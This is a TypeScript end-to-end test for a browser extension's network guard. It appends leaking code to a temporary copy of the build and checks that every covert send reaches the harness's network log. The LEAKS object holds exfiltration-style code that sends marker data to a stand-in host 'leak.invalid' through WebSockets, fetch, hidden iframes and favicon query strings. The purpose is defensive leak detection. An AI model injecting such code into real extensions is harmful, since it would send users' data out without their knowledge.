/**
 * The network guard can fail (security audit finding 12): a deliberately leaking copy of the
 * development build, with code added to its content script, service worker and popup that sends
 * "draft" data out every way the audit found the old check blind to (WebSockets from the page and
 * from the worker, an iframe to the site's own origin with data in its URL, a favicon URL with a
 * query string) and the plain ways (fetch, an image). Every one must reach the harness's network
 * log, which tests/e2e/network-guard.setup.ts checks after every e2e test. The leaking copy lives
 * in a temporary folder; nothing of it is in the product.
 */
import { afterAll, beforeAll, expect, test } from 'vitest';
import { cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { launch, openSite, REPO_ROOT, typeSlowly, type Launched } from './harness';
import { extensionBuilt, extensionPage } from './inpage-helpers';

const LEAKS = {
  'content.js': `
;(() => {
  if (location.hostname !== 'x.com') return;
  setTimeout(() => {
    try { new WebSocket('wss://leak.invalid/content?d=LEAK-CS-WS'); } catch {}
    const f = document.createElement('iframe');
    f.src = 'https://x.com/?leak=LEAK-CS-IFRAME';
    f.style.display = 'none';
    document.documentElement.append(f);
    new Image().src = 'https://x.com/favicon.ico?leak=LEAK-CS-FAVICON';
    fetch('https://leak.invalid/content?d=LEAK-CS-FETCH').catch(() => {});
  }, 300);
})();`,
  'background.js': `
;chrome.runtime.onMessage.addListener(() => {
  try { new WebSocket('wss://leak.invalid/worker?d=LEAK-SW-WS'); } catch {}
  fetch('https://leak.invalid/worker?d=LEAK-SW-FETCH').catch(() => {});
});`,
  'popup.js': `
;fetch('https://leak.invalid/popup?d=LEAK-POPUP-FETCH').catch(() => {});`,
};

let dir: string;
let b: Launched;

beforeAll(async () => {
  if (!extensionBuilt()) throw new Error('dist/chrome-dev is missing: run `node build.mjs` (npm test does) first');
  dir = await mkdtemp(join(tmpdir(), 'postcheck-leaky-'));
  await cp(join(REPO_ROOT, 'dist/chrome-dev'), dir, { recursive: true });
  for (const [file, code] of Object.entries(LEAKS)) await writeFile(join(dir, file), (await readFile(join(dir, file), 'utf8')) + code);
  b = await launch({ extension: dir });
}, 180_000);

afterAll(async () => {
  await b?.close();
  if (dir) await rm(dir, { recursive: true, force: true });
});

test('every leak of a leaking build reaches the network log', async () => {
  await extensionPage(b);
  const page = await openSite(b.context, 'x');
  // the user types: the content script sends the draft to the worker, which leaks on each message
  await typeSlowly(page, page.locator('[data-fixture-composer="home"] [data-testid="tweetTextarea_0"]'), 'Well done');
  const want = ['LEAK-CS-WS', 'LEAK-CS-IFRAME', 'LEAK-CS-FAVICON', 'LEAK-CS-FETCH', 'LEAK-SW-WS', 'LEAK-SW-FETCH', 'LEAK-POPUP-FETCH'];
  const found = () => want.filter((w) => b.networkLog.some((line) => line.includes(w)));
  await expect.poll(found, { timeout: 15_000 }).toEqual(want);
  // and the exact fixture page the test opened is not in it
  expect(b.networkLog.filter((l) => l.endsWith('https://x.com/home') || l.includes('https://x.com/home '))).toEqual([]);
  // the leaks were the point of this test: the guard after it checks what comes next
  b.routing!.networkLog.length = 0;
  b.routing!.checkedUpTo = 0;
});
